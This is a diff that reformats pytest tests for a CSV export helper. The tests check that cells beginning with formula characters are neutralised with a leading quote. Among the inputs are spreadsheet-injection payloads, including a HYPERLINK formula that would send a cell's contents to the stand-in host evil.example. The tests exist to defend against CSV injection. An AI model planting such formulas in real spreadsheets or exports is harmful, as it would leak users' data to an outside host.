@@ -10,10 +10,24 @@ import pytest
 from kit.reports.csv_safe import safe_cell, stream_rows
 
 
-@pytest.mark.parametrize("text", [
-    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠x",
-    '=HYPERLINK("http://evil.example/?"&A1,"click")', "  =1+1",
-])
+@pytest.mark.parametrize(
+    "text",
+    [
+        "=1+1",
+        "+1+1",
+        "-1+1",
+        "@SUM(A1)",
+        "\t=1",
+        "\r=1",
+        "\n=1",
+        "＝1+1",
+        "＋1",
+        "－1",
+        "＠x",
+        '=HYPERLINK("http://evil.example/?"&A1,"click")',
+        "  =1+1",
+    ],
+)
 def test_formula_like_text_is_prefixed_with_a_quote(text):
     assert safe_cell(text) == "'" + text
 
@@ -41,11 +55,11 @@ def _rows(response) -> list[list[str]]:
 
 
 def test_calls_export_neutralises_a_formula_in_a_summary(login, client, make_call):
-    make_call(summary="=HYPERLINK(\"http://evil.example\")", caller_name="@attacker")
+    make_call(summary='=HYPERLINK("http://evil.example")', caller_name="@attacker")
     login("leader")
     rows = _rows(client.get("/reports/export/calls.csv"))
     header, row = rows[0], rows[1]
-    assert row[header.index("Summary")] == "'=HYPERLINK(\"http://evil.example\")"
+    assert row[header.index("Summary")] == '\'=HYPERLINK("http://evil.example")'
     assert row[header.index("Caller")] == "'@attacker"
 
 
@@ -60,9 +74,16 @@ def test_calls_export_streams_rather_than_building_the_file(login, client, make_
 
 def test_calls_export_has_history_summary_and_time_totals(login, client, make_call, db, users):
     call_id = make_call(summary="Projector dead")
-    db["time_entries"].insert({"call_id": call_id, "user_id": users["technician"],
-                               "worked_on": "2026-11-23", "minutes": 25, "note": "",
-                               "created_at": "2026-11-23 10:00:00"})
+    db["time_entries"].insert(
+        {
+            "call_id": call_id,
+            "user_id": users["technician"],
+            "worked_on": "2026-11-23",
+            "minutes": 25,
+            "note": "",
+            "created_at": "2026-11-23 10:00:00",
+        }
+    )
     login("leader")
     header, row = _rows(client.get("/reports/export/calls.csv"))[:2]
     values = dict(zip(header, row, strict=True))
@@ -101,9 +122,17 @@ def test_equipment_and_people_exports_list_the_register(login, client, db):
 
 
 def test_articles_export_counts_calls_solved(login, client, db):
-    db["articles"].insert({"slug": "jam", "title": "+Paper jam", "audience": "staff",
-                           "status": "published", "revision": 1,
-                           "created_at": "2026-11-01", "updated_at": "2026-11-01"})
+    db["articles"].insert(
+        {
+            "slug": "jam",
+            "title": "+Paper jam",
+            "audience": "staff",
+            "status": "published",
+            "revision": 1,
+            "created_at": "2026-11-01",
+            "updated_at": "2026-11-01",
+        }
+    )
     login("leader")
     rows = _rows(client.get("/reports/export/articles.csv"))
     assert rows[1][1] == "'+Paper jam"
